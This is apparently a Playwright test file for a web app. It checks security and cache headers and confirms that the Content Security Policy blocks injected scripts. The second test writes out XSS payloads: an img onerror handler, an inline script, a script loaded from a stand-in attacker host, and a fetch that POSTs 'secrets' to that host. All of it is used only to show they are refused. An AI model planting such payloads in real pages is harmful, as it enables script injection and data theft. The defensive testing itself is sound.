import { IMMUTABLE, REVALIDATE, securityHeaders } from '../hosting/headers.ts';
import { demo, signIn } from './support/people.ts';
import { appUrl, backendOrigin, expect, origin, test } from './support/test.ts';

const expected = () => securityHeaders(backendOrigin() === origin() ? '/' : backendOrigin());

test('every answer of the app carries the security headers', async ({ page, request }) => {
  await signIn(page, demo.angel);
  const script = await page.locator('script[src]').first().getAttribute('src');
  for (const address of ['/', '/profile', '/no/such/place', '/privacy.html', '/icon.svg']) {
    const headers = (await request.get(appUrl(address))).headers();
    for (const [name, value] of expected())
      expect(headers[name.toLowerCase()], `${name} of ${address}`).toBe(value);
  }
  const hashed = new URL(script ?? '', origin()).href;
  const headers = (await request.get(hashed)).headers();
  for (const [name, value] of expected())
    expect(headers[name.toLowerCase()], `${name} of ${script}`).toBe(value);

  // A file of an older version must fail as missing; the shell in its place would be read as a script.
  expect(headers['cache-control']).toBe(IMMUTABLE);
  const gone = await request.get(`${hashed.slice(0, -3)}-gone.js`);
  expect([gone.status(), gone.headers()['cache-control']]).toEqual([404, REVALIDATE]);
  for (const address of ['/', '/swipe', '/index.html', '/sw.js', '/manifest.webmanifest'])
    expect((await request.get(appUrl(address))).headers()['cache-control'], address).toBe(REVALIDATE);
});

test('a script that gets into the page does not run, loads nothing and tells nobody', async ({ browser }) => {
  // Not the watched page: it is told to do what every other journey fails for.
  const context = await browser.newContext();
  const page = await context.newPage();
  const refusals: string[] = [];
  page.on('console', (message) => void (message.type() === 'error' && refusals.push(message.text())));
  await page.goto(appUrl('/auth'));
  const outcome = await page.evaluate(async () => {
    const refused = new Set<string>();
    const allRefused = new Promise<void>((resolve) => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
        refused.add(`${effectiveDirective} ${blockedURI}`);
        if (refused.size === 4) resolve();
      });
    });
    document.body.insertAdjacentHTML('beforeend', '<img src="x" alt="" onerror="window.attacked = true">');
    const inline = document.createElement('script');
    inline.textContent = 'window.attacked = true';
    document.body.append(inline);
    const foreign = document.createElement('script');
    foreign.src = 'https://attacker.example/script.js';
    document.body.append(foreign);
    const told = await fetch('https://attacker.example/', { method: 'POST', body: 'secrets' }).catch(
      () => null,
    );
    await allRefused;
    return { refused: [...refused].sort(), told: told !== null, attacked: 'attacked' in window };
  });
  expect(outcome).toEqual({
    refused: [
      'connect-src https://attacker.example/',
      'script-src-attr inline',
      'script-src-elem https://attacker.example/script.js',
      'script-src-elem inline',
    ],
    told: false,
    attacked: false,
  });
  expect(refusals.join('\n')).toMatch(/Content Security Policy/);
  await context.close();
});
